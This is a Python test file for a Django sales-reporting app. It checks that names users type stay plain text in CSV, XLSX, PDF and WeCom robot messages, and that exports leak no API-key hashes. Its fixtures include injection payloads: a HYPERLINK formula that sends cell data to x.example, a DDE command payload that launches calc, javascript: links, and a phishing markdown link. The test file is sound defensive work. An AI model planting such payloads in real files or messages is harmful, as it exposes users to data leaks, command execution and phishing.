"""Whatever people type as a name is text in every medium we write it into: not a formula in a
spreadsheet (CSV or XLSX), not markup in the PDF, not a link or a colour in a WeCom robot's
markdown; and the brand export carries no API-key hash anywhere."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from apps.accounts.models import User
from apps.brand_data.models import DataExport
from apps.common.spreadsheets import csv_cell, csv_unquoted, is_formula_like
from apps.common.wecom import markdown_text
from apps.compliance.services import notify
from apps.kpis.services.imports import import_job_check, import_job_create, import_job_run, import_job_start
from apps.organisation.roles import Role
from apps.organisation.services import api_key_create
from apps.reports.services import reports
from apps.tenants.models import Brand
from tests.factories.messages import scanned_violations

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
MARKUP = '<img src="/etc/passwd"/><a href="javascript:alert(1)">点我</a><font color="red">x</font>'


@pytest.mark.parametrize(
    "value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1", "-", "=", "+86 138 0000 0000"]
)
def test_formula_like_text_is_quoted_in_csv(value):
    assert csv_cell(value) == "'" + value and csv_unquoted(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["-12.50", "+3", "1,234.5", "-0.1%", "1e-5", "-", "王芳", "a=b", "2026-10-01"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    if value == "-":
        return
    assert not is_formula_like(value) and csv_cell(value) == value


def _rename(person_id, name):
    User.objects.filter(pk=person_id).update(full_name=name)


def test_the_report_xlsx_and_pdf_hold_names_as_text(arena):
    yesterday = arena.today - timedelta(days=1)
    with arena.brand:
        _rename(arena.reps["r1"].pk, FORMULA)
        _rename(arena.reps["r2"].pk, MARKUP)
        Brand.objects.filter(pk=arena.brand.brand.pk).update(name=MARKUP)  # the fixture's object stays as it is
        arena.sell("r1", 100, day=yesterday)
        reports.report_generate(day=yesterday)
    ops = arena.brand.client("ops")
    book = load_workbook(io.BytesIO(ops.get(f"/reports/{yesterday.isoformat()}/report.xlsx").content))
    cells = [cell for row in book["导购"].iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    pdf = ops.get(f"/reports/{yesterday.isoformat()}/report.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert b"/URI" not in pdf.content and b"/Annots" not in pdf.content and b"/XObject" not in pdf.content


def test_robot_markdown_shows_names_and_phrases_as_words(alpha, robot):
    assert markdown_text(MARKUP + "\n# 标题\n> 引用 **粗** `代码` <@all>") == (
        '＜img src="/etc/passwd"/＞＜a href="javascript:alert（1）"＞点我＜/a＞＜font color="red"＞x＜/font＞'
        " ＃ 标题 ＞ 引用 ＊＊粗＊＊ ｀代码｀ ＜@all＞"
    )
    with alpha:
        _rename(alpha.rep_id, '[点我](http://phish.example)<font color="info">王</font>')
    [violation] = scanned_violations(alpha, "私下转账给我", robot.url)
    with alpha:
        notify.violation_notify(violation_id=violation.pk)
    content = robot.received[-1]["markdown"]["content"]
    assert "](http://phish" not in content and '<font color="info">王' not in content
    assert "［点我］（http://phish.example）" in content
    assert content.count("](") == 1  # only our own link to the review page


def test_the_brand_export_quotes_formulas_and_carries_no_key_hash(alpha, django_capture_on_commit_callbacks):
    with alpha:
        _rename(alpha.rep_id, FORMULA)
        key, _secret = api_key_create(name="=cmd|' /C calc'!A0", roles=[Role.PRODUCT_OPS], created_by=None)
        hashed = key.hashed_key
    with django_capture_on_commit_callbacks(execute=True):
        alpha.client("admin").post("/settings/data/exports/")
    with alpha:
        export = DataExport.objects.get()
        raw = export.file.read()
    archive = zipfile.ZipFile(io.BytesIO(raw))
    every_file = b"".join(archive.read(name) for name in archive.namelist())
    assert hashed.encode() not in every_file and key.pk.encode() not in every_file
    keys = list(csv.DictReader(io.TextIOWrapper(archive.open("organisation/apikey.csv"), encoding="utf-8-sig")))
    assert [(k["id"], k["name"]) for k in keys] == [(key.prefix, "'=cmd|' /C calc'!A0")]
    people = csv.DictReader(io.TextIOWrapper(archive.open("accounts/user.csv"), encoding="utf-8-sig"))
    assert "'" + FORMULA in {person["full_name"] for person in people}
    assert json.loads(archive.read("manifest.json"))["api_key_ids"]


def test_the_import_error_report_quotes_formulas_and_reimports_as_typed(alpha):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            ["kind", "occurred_at", "customer", "amount"],
            ["order", "2026-10-01 10:00", FORMULA, "-5"],
            ["order", "bad", "x", "-12.50"],
        ]
    )
    with alpha:
        job = import_job_create(upload=SimpleUploadedFile("e.csv", buffer.getvalue().encode()), user=None)
        job = import_job_check(job_id=job.pk)
        import_job_start(job=job)
        job = import_job_run(job_id=job.pk)
        assert job.failed == 2
    report = alpha.client("admin").get(f"/kpis/imports/{job.pk}/errors.csv")
    lines = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode("utf-8-sig"))))
    assert lines[1][3] == "'" + FORMULA and lines[1][4] == "-5" and lines[2][4] == "-12.50"
    assert csv_unquoted(lines[1][3]) == FORMULA
